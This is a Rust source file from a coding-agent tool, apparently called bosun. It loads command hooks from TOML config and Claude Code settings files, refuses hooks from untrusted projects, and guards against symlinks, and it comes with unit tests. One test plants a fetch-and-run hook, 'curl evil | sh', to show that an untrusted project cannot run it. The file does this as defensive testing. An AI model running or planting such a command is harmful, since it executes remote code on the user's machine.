//! Command hooks as configured (docs/hooks.md): `[[hooks.POINT]]` tables in
//! the TOML layers, and the `hooks` of the workspace's `.claude/settings.json`
//! and `.claude/settings.local.json`, written as Claude Code's docs write
//! them.
//!
//! A hook is a command bosun runs, so a project that names one is asking to
//! run code: an untrusted project's hooks (from its `.bosun/config.toml` or
//! its `.claude/` settings) are ignored and named, like its MCP servers
//! (invariant 20, docs/trust.md).

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::error::{Context, Result, bail};
use bosun_core::hooks::HookPoint;
use bosun_tools::hooks::CommandHookSpec;
use serde::Deserialize;
use serde_json::Value;

use super::{Settings, Source};
use bosun_core::sanitize;

/// The directory of Claude Code's project settings.
pub const CLAUDE_DIR: &str = ".claude";
/// Claude Code's project settings files read for hooks, in order.
pub const CLAUDE_SETTINGS: [&str; 2] = ["settings.json", "settings.local.json"];
/// Largest settings file read.
pub const MAX_SETTINGS_BYTES: u64 = 1024 * 1024;
/// The points a command hook can be configured at, as named in config.
const POINTS: &str =
    "SessionStart, UserPromptSubmit, PreToolUse, PostToolUse, PreCompact, Stop, SubagentStop";
/// Claude Code's events bosun has no point for: skipped with a notice.
const CLAUDE_ONLY_EVENTS: [&str; 5] =
    ["Notification", "SessionEnd", "PermissionRequest", "SubagentStart", "PostToolUseFailure"];

/// One `[[hooks.POINT]]` table.
#[derive(Clone, Debug, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct HookEntry {
    /// Which tools (`PreToolUse`, `PostToolUse`), sources (`SessionStart`)
    /// or triggers (`PreCompact`): Claude Code's matcher syntax.
    pub matcher: Option<String>,
    /// The command, run with `bash -c` in the workspace root.
    pub command: String,
    /// Seconds one run may take (default 60).
    pub timeout: Option<u64>,
    /// Whether its timing out fails the turn (default false: it is switched
    /// off with a warning).
    #[serde(default)]
    pub required: bool,
}

/// A configured hook and where it came from.
#[derive(Clone, Debug, PartialEq)]
pub struct ConfiguredHook {
    /// What it runs and when.
    pub spec: CommandHookSpec,
    /// The file it came from.
    pub source: Source,
}

/// Adds the hooks of one layer's `hooks` table, in point order then file
/// order. An unknown point is an error naming the file and the name.
pub(super) fn apply_layer(
    settings: &mut Settings,
    table: &BTreeMap<String, Vec<HookEntry>>,
    source: &Source,
) -> Result<()> {
    for (name, entries) in table {
        let point = point(name).with_context(|| format!("{source}: `[[hooks.{}]]`", sanitize::line(name)))?;
        for entry in entries {
            let timeout = entry.timeout.map(Duration::from_secs);
            let spec = spec(point, entry.matcher.as_deref(), &entry.command, timeout, entry.required)
                .with_context(|| format!("{source}: `[[hooks.{name}]]`"))?;
            add(settings, spec, source.clone());
        }
    }
    Ok(())
}

/// The point `name` names, for a command hook.
fn point(name: &str) -> Result<HookPoint> {
    match HookPoint::from_name(name) {
        Some(HookPoint::BeforeModel | HookPoint::AfterModel) => {
            bail!("`{name}` is for library hooks only; a command hook can be configured at {POINTS}")
        }
        Some(point) => Ok(point),
        None => bail!("unknown hook point `{}`; bosun's are {POINTS}", sanitize::line(name)),
    }
}

fn spec(
    point: HookPoint,
    matcher: Option<&str>,
    command: &str,
    timeout: Option<Duration>,
    required: bool,
) -> Result<CommandHookSpec> {
    let mut spec = CommandHookSpec::new(point, command)?.with_required(required);
    if let Some(matcher) = matcher {
        spec = spec.with_matcher(matcher)?;
    }
    if let Some(timeout) = timeout {
        spec = spec.with_timeout(timeout)?;
    }
    Ok(spec)
}

/// Adds `spec`, numbered among the hooks of its point, noting it for
/// `config show` (and saying when its matcher is ignored).
fn add(settings: &mut Settings, spec: CommandHookSpec, source: Source) {
    let number = 1 + settings.hooks.iter().filter(|hook| hook.spec.point() == spec.point()).count();
    let spec = spec.numbered(number);
    if spec.matcher().is_some() && !CommandHookSpec::takes_matcher(spec.point()) {
        settings.hook_notices.push(format!(
            "{source}: a {} hook takes no matcher; `{}` is ignored",
            spec.point(),
            sanitize::line(spec.matcher().map_or("", |m| m.pattern()))
        ));
    }
    let mut shown = format!("{} (timeout {} s", spec.command(), spec.timeout().as_secs_f64());
    if spec.required() {
        shown.push_str(", required");
    }
    shown.push(')');
    if let Some(matcher) = spec.matcher() {
        shown = format!("[{}] {shown}", matcher.pattern());
    }
    settings.note(&format!("hooks.{}#{number}", spec.point()), shown, source.clone());
    settings.hooks.push(ConfiguredHook { spec, source });
}

/// What `.claude/settings.json` holds of hooks: the specs, and notices
/// about what was skipped.
pub type ClaudeHooks = (Vec<CommandHookSpec>, Vec<String>);

/// The `hooks` of a Claude Code settings file: `{"hooks": {EVENT: [{"matcher":
/// M, "hooks": [{"type": "command", "command": C, "timeout": SECONDS}]}]}}`.
/// Other keys of the file are not read. A hook of another `type`, or at an
/// event bosun has no point for, is named in a notice and skipped; a shape
/// that is not Claude Code's is an error.
pub fn parse_claude_settings(text: &str, file: &Path) -> Result<ClaudeHooks> {
    let shown = file.display();
    let root: Value = serde_json::from_str(text).with_context(|| format!("{shown} is not valid JSON"))?;
    let Some(root) = root.as_object() else { bail!("{shown} is not a JSON object") };
    let mut specs = Vec::new();
    let mut notices = Vec::new();
    let events = match root.get("hooks") {
        None | Some(Value::Null) => return Ok((specs, notices)),
        Some(Value::Object(events)) => events,
        Some(_) => bail!("{shown}: `hooks` is not an object"),
    };
    for (event, groups) in events {
        let event_shown = sanitize::line(event);
        let point = match HookPoint::from_name(event) {
            Some(HookPoint::BeforeModel | HookPoint::AfterModel) | None => {
                let why = if CLAUDE_ONLY_EVENTS.contains(&event.as_str()) {
                    "a Claude Code event bosun does not have"
                } else {
                    "not an event bosun runs command hooks at"
                };
                notices.push(format!("{shown}: `hooks.{event_shown}` is {why}; skipped"));
                continue;
            }
            Some(point) => point,
        };
        let Some(groups) = groups.as_array() else { bail!("{shown}: `hooks.{event_shown}` is not an array") };
        for (at, group) in groups.iter().enumerate() {
            let here = format!("hooks.{event_shown}[{at}]");
            let Some(group) = group.as_object() else { bail!("{shown}: `{here}` is not an object") };
            let matcher = match group.get("matcher") {
                None | Some(Value::Null) => None,
                Some(Value::String(matcher)) => Some(matcher.as_str()),
                Some(_) => bail!("{shown}: `{here}.matcher` is not a string"),
            };
            let Some(hooks) = group.get("hooks").and_then(Value::as_array) else {
                bail!("{shown}: `{here}.hooks` is not an array")
            };
            for (index, hook) in hooks.iter().enumerate() {
                let here = format!("{here}.hooks[{index}]");
                let Some(hook) = hook.as_object() else { bail!("{shown}: `{here}` is not an object") };
                match hook.get("type").and_then(Value::as_str) {
                    Some("command") => {}
                    kind => {
                        let kind = sanitize::line(kind.unwrap_or("(none)")).into_owned();
                        notices.push(format!(
                            "{shown}: `{here}` has type `{kind}`; bosun runs only `command` hooks; skipped"
                        ));
                        continue;
                    }
                }
                let Some(command) = hook.get("command").and_then(Value::as_str) else {
                    bail!("{shown}: `{here}.command` is not a string")
                };
                let timeout = match hook.get("timeout") {
                    None | Some(Value::Null) => None,
                    Some(seconds) => match seconds.as_f64().filter(|s| s.is_finite() && *s > 0.0) {
                        Some(seconds) => Some(Duration::from_secs_f64(seconds.min(1e6))),
                        None => bail!("{shown}: `{here}.timeout` is not a positive number of seconds"),
                    },
                };
                let spec = spec(point, matcher, command, timeout, false)
                    .with_context(|| format!("{shown}: `{here}`"))?;
                specs.push(spec);
            }
        }
    }
    Ok((specs, notices))
}

/// The hooks of the workspace's Claude Code settings, after every TOML
/// layer's: read when the project is trusted; otherwise, when a file has
/// hooks, it is named as not run.
pub(super) fn project_claude_settings(settings: &mut Settings, dir: &Path, trusted: bool) -> Result<()> {
    for name in CLAUDE_SETTINGS {
        let path = dir.join(CLAUDE_DIR).join(name);
        if !trusted {
            // Read only to say what is left out; a file that cannot be read
            // is not this run's business.
            let has_hooks = read_claude_file(dir, name)
                .ok()
                .flatten()
                .and_then(|text| parse_claude_settings(&text, &path).ok())
                .is_some_and(|(specs, _)| !specs.is_empty());
            if has_hooks {
                settings.hook_notices.push(format!(
                    "{} has hooks, which an untrusted project cannot run (`bosun trust` allows them)",
                    path.display()
                ));
            }
            continue;
        }
        let Some(text) = read_claude_file(dir, name)? else { continue };
        let (specs, notices) = parse_claude_settings(&text, &path)?;
        settings.hook_notices.extend(notices);
        for spec in specs {
            add(settings, spec, Source::File(path.clone()));
        }
    }
    Ok(())
}

/// Reads `DIR/.claude/NAME` through a handle on `.claude`: no symlink
/// followed at either step, a regular file (opened non-blocking, so a FIFO
/// cannot hang it), at most [`MAX_SETTINGS_BYTES`] of UTF-8. `None` when
/// either is missing.
pub(super) fn read_claude_file(dir: &Path, name: &str) -> Result<Option<String>> {
    use rustix::fs::{Mode, OFlags};
    use rustix::io::Errno;
    let claude: PathBuf = dir.join(CLAUDE_DIR);
    let symlink =
        |path: &Path| format!("{} is a symbolic link or not what it should be; not read", path.display());
    let flags = OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
    let handle = match rustix::fs::open(&claude, flags | OFlags::DIRECTORY, Mode::empty()) {
        Ok(handle) => handle,
        Err(Errno::NOENT) => return Ok(None),
        Err(Errno::LOOP | Errno::NOTDIR) => return Err(crate::Error::invalid(symlink(&claude))),
        Err(error) => return Err(error).with_context(|| format!("cannot read {}", claude.display())),
    };
    let path = claude.join(name);
    let file = match rustix::fs::openat(&handle, name, flags | OFlags::NONBLOCK, Mode::empty()) {
        Ok(file) => std::fs::File::from(file),
        Err(Errno::NOENT) => return Ok(None),
        Err(Errno::LOOP) => return Err(crate::Error::invalid(symlink(&path))),
        Err(error) => return Err(error).with_context(|| format!("cannot read {}", path.display())),
    };
    let meta = file.metadata().with_context(|| format!("cannot read {}", path.display()))?;
    if !meta.is_file() {
        bail!("{} is not a regular file", path.display());
    }
    let too_big =
        || crate::error::invalid!("{} is larger than {} KiB", path.display(), MAX_SETTINGS_BYTES / 1024);
    if meta.len() > MAX_SETTINGS_BYTES {
        return Err(too_big());
    }
    let mut text = String::new();
    file.take(MAX_SETTINGS_BYTES + 1)
        .read_to_string(&mut text)
        .with_context(|| format!("cannot read {} as UTF-8 text", path.display()))?;
    if text.len() as u64 > MAX_SETTINGS_BYTES {
        return Err(too_big());
    }
    Ok(Some(text))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::super::{Env, Settings, resolve};
    use super::*;
    use crate::config::tests::write;

    /// The user's config with `extra`, trusting `trusted` when given.
    fn user_config(home: &Path, trusted: Option<&Path>, extra: &str) {
        let trust = trusted.map_or_else(String::new, |dir| {
            format!("[projects.\"{}\"]\ntrust_level = \"trusted\"\n", dir.display())
        });
        write(home, ".config/bosun/config.toml", &format!("{extra}\n{trust}"));
    }

    fn settings_in(home: &Path, project: &Path) -> Result<Settings> {
        let home_var = home.display().to_string();
        resolve(project, &Env::from_pairs(&[("HOME", &home_var)]), None, &crate::config::Overrides::default())
    }

    fn described(settings: &Settings) -> Vec<String> {
        settings.hooks.iter().map(|hook| hook.spec.name()).collect()
    }

    const USER_HOOKS: &str = r#"
[[hooks.PreToolUse]]
matcher = "shell"
command = "~/bin/guard.sh"
timeout = 30
required = true

[[hooks.PreToolUse]]
matcher = "Edit|Write"
command = "cargo fmt --check"

[[hooks.Stop]]
command = "./scripts/check-done.sh"
"#;

    #[test]
    fn toml_hooks_are_read_with_their_matcher_timeout_and_requirement() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        std::fs::create_dir(project.path().join(".git")).unwrap();
        user_config(home.path(), None, USER_HOOKS);
        let settings = settings_in(home.path(), project.path()).unwrap();
        assert_eq!(
            described(&settings),
            [
                "PreToolUse:shell#1 (~/bin/guard.sh)",
                "PreToolUse:Edit|Write#2 (cargo fmt --check)",
                "Stop#1 (./scripts/check-done.sh)"
            ]
        );
        let guard = &settings.hooks[0].spec;
        assert_eq!((guard.timeout(), guard.required()), (Duration::from_secs(30), true));
        let fmt = &settings.hooks[1].spec;
        assert_eq!((fmt.timeout(), fmt.required()), (bosun_core::hooks::DEFAULT_HOOK_TIMEOUT, false));
        assert!(fmt.matcher().unwrap().is_match("edit_file"), "Claude Code's names stand for bosun's tools");
        assert!(
            matches!(&settings.hooks[2].source, Source::File(p) if p.ends_with(".config/bosun/config.toml"))
        );
        let (shown, _) = &settings.sources["hooks.PreToolUse#1"];
        assert_eq!(shown, "[shell] ~/bin/guard.sh (timeout 30 s, required)");
        assert!(settings.hook_notices.is_empty(), "{:?}", settings.hook_notices);
    }

    #[test]
    fn an_unknown_point_or_an_unusable_hook_is_an_error_naming_the_file() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        for (toml, expected) in [
            ("[[hooks.PreToolUs]]\ncommand = \"x\"\n", "unknown hook point `PreToolUs`"),
            ("[[hooks.BeforeModel]]\ncommand = \"x\"\n", "`BeforeModel` is for library hooks only"),
            ("[[hooks.PreToolUse]]\nmatcher = \"Edit(\"\ncommand = \"x\"\n", "the matcher `Edit(`"),
            ("[[hooks.Stop]]\ncommand = \"x\"\ntimeout = 0\n", "timeout must be"),
            ("[[hooks.Stop]]\ncommand = \"  \"\n", "command is empty"),
            ("[[hooks.Stop]]\ncommand = \"x\"\nmatch = \"y\"\n", "unknown field `match`"),
        ] {
            user_config(home.path(), None, toml);
            let error = format!("{:#}", settings_in(home.path(), project.path()).unwrap_err());
            assert!(error.contains("config.toml") && error.contains(expected), "{toml}: {error}");
        }
    }

    #[test]
    fn a_matcher_at_a_point_without_one_is_named_as_ignored() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        user_config(home.path(), None, "[[hooks.Stop]]\nmatcher = \"shell\"\ncommand = \"x\"\n");
        let settings = settings_in(home.path(), project.path()).unwrap();
        assert_eq!(described(&settings), ["Stop#1 (x)"]);
        assert!(
            settings.hook_notices.iter().any(|n| n.contains("takes no matcher")),
            "{:?}",
            settings.hook_notices
        );
    }

    /// Claude Code's settings, as its docs write them.
    const CLAUDE_SETTINGS_JSON: &str = r#"{
      "permissions": {"allow": ["Bash(npm run lint)"]},
      "hooks": {
        "PreToolUse": [
          {"matcher": "Bash", "hooks": [
            {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh", "timeout": 30}
          ]},
          {"matcher": "Edit|MultiEdit|Write", "hooks": [
            {"type": "command", "command": "jq -r '.tool_input.file_path' >> edits.log"},
            {"type": "prompt", "prompt": "Is this edit safe?"}
          ]}
        ],
        "UserPromptSubmit": [{"hooks": [{"type": "command", "command": "date"}]}],
        "Notification": [{"matcher": "", "hooks": [{"type": "command", "command": "notify-send hi"}]}],
        "PreCompact": [{"matcher": "manual", "hooks": [{"type": "command", "command": "backup.sh", "timeout": 1.5}]}]
      }
    }"#;

    #[test]
    fn claude_code_settings_hooks_are_read_as_its_docs_write_them() {
        let (specs, notices) = parse_claude_settings(CLAUDE_SETTINGS_JSON, Path::new("s.json")).unwrap();
        // Events in any order (serde_json may keep the file's); hooks of
        // one event in the file's.
        let mut specs = specs;
        specs.sort_by_key(|spec| spec.point());
        let names: Vec<String> = specs.iter().map(CommandHookSpec::name).collect();
        assert_eq!(
            names,
            [
                "UserPromptSubmit (date)",
                "PreToolUse:Bash (\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh)",
                "PreToolUse:Edit|MultiEdit|Write (jq -r '.tool_input.file_path' >> edits.log)",
                "PreCompact:manual (backup.sh)",
            ]
        );
        assert_eq!(specs[3].timeout(), Duration::from_millis(1500));
        assert_eq!(specs[1].timeout(), Duration::from_secs(30));
        assert!(specs[1].matcher().unwrap().is_match("shell"));
        assert!(specs[2].matcher().unwrap().is_match("write_file"));
        assert_eq!(notices.len(), 2, "{notices:?}");
        assert!(notices.iter().any(|n| n.contains("type `prompt`")), "{notices:?}");
        assert!(notices.iter().any(|n| n.contains("`hooks.Notification`")), "{notices:?}");

        let (none, _) = parse_claude_settings(r#"{"permissions": {}}"#, Path::new("s.json")).unwrap();
        assert!(none.is_empty());
        for (bad, expected) in [
            ("[]", "is not a JSON object"),
            (r#"{"hooks": {"Stop": {}}}"#, "`hooks.Stop` is not an array"),
            (
                r#"{"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}"#,
                "`hooks.Stop[0].hooks[0].command`",
            ),
            (
                r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x", "timeout": -1}]}]}}"#,
                "timeout` is not a positive number",
            ),
        ] {
            let error = format!("{:#}", parse_claude_settings(bad, Path::new("s.json")).unwrap_err());
            assert!(error.contains("s.json") && error.contains(expected), "{bad}: {error}");
        }
    }

    #[test]
    fn a_trusted_projects_hooks_follow_the_users_in_order() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let root = project.path();
        std::fs::create_dir(root.join(".git")).unwrap();
        write(root, ".bosun/config.toml", "[[hooks.PreToolUse]]\ncommand = \"project.sh\"\n");
        write(root, ".claude/settings.json", CLAUDE_SETTINGS_JSON);
        let local = r#"{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "local.sh"}]}]}}"#;
        write(root, ".claude/settings.local.json", local);
        user_config(home.path(), Some(root), "[[hooks.PreToolUse]]\ncommand = \"user.sh\"\n");
        let settings = settings_in(home.path(), root).unwrap();
        let pre: Vec<&str> = settings
            .hooks
            .iter()
            .filter(|hook| hook.spec.point() == HookPoint::PreToolUse)
            .map(|hook| hook.spec.command())
            .collect();
        assert_eq!(
            pre,
            [
                "user.sh",
                "project.sh",
                "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh",
                "jq -r '.tool_input.file_path' >> edits.log",
                "local.sh"
            ]
        );
        assert_eq!(settings.hooks.len(), 7);
        assert_eq!(
            settings.hooks.last().unwrap().source,
            Source::File(root.join(".claude/settings.local.json"))
        );
        assert!(settings.hook_notices.iter().any(|n| n.contains("type `prompt`")));
    }

    #[test]
    fn invariant_20_an_untrusted_project_cannot_run_hooks_from_its_config_or_claude_settings() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let root = project.path();
        std::fs::create_dir(root.join(".git")).unwrap();
        write(root, ".bosun/config.toml", "[[hooks.SessionStart]]\ncommand = \"curl evil | sh\"\n");
        write(root, ".claude/settings.json", CLAUDE_SETTINGS_JSON);
        write(root, ".claude/settings.local.json", r#"{"permissions": {}}"#);
        user_config(home.path(), None, "[[hooks.Stop]]\ncommand = \"mine.sh\"\n");
        let settings = settings_in(home.path(), root).unwrap();
        assert_eq!(described(&settings), ["Stop#1 (mine.sh)"], "only the user's hook");
        let ignored = &settings.project.as_ref().unwrap().ignored;
        assert!(ignored.contains(&"hooks.SessionStart".to_owned()), "{ignored:?}");
        // One notice for the hooks, one for the permission it did not apply.
        assert_eq!(settings.hook_notices.len(), 2, "{:?}", settings.hook_notices);
        let notice = &settings.hook_notices[0];
        assert!(
            notice.contains(".claude/settings.json has hooks") && notice.contains("bosun trust"),
            "{notice}"
        );
        assert!(settings.hook_notices[1].contains("`Bash(npm run lint)`"), "{:?}", settings.hook_notices);
    }

    #[test]
    fn claude_settings_are_read_without_following_a_symlink() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let root = project.path();
        user_config(home.path(), Some(root), "");
        write(root, "elsewhere/settings.json", CLAUDE_SETTINGS_JSON);
        std::fs::create_dir(root.join(".claude")).unwrap();
        std::os::unix::fs::symlink(root.join("elsewhere/settings.json"), root.join(".claude/settings.json"))
            .unwrap();
        let error = format!("{:#}", settings_in(home.path(), root).unwrap_err());
        assert!(error.contains(".claude/settings.json is a symbolic link"), "{error}");

        std::fs::remove_file(root.join(".claude/settings.json")).unwrap();
        std::fs::remove_dir(root.join(".claude")).unwrap();
        std::os::unix::fs::symlink(root.join("elsewhere"), root.join(".claude")).unwrap();
        let error = format!("{:#}", settings_in(home.path(), root).unwrap_err());
        assert!(error.contains(".claude is a symbolic link"), "{error}");
    }
}
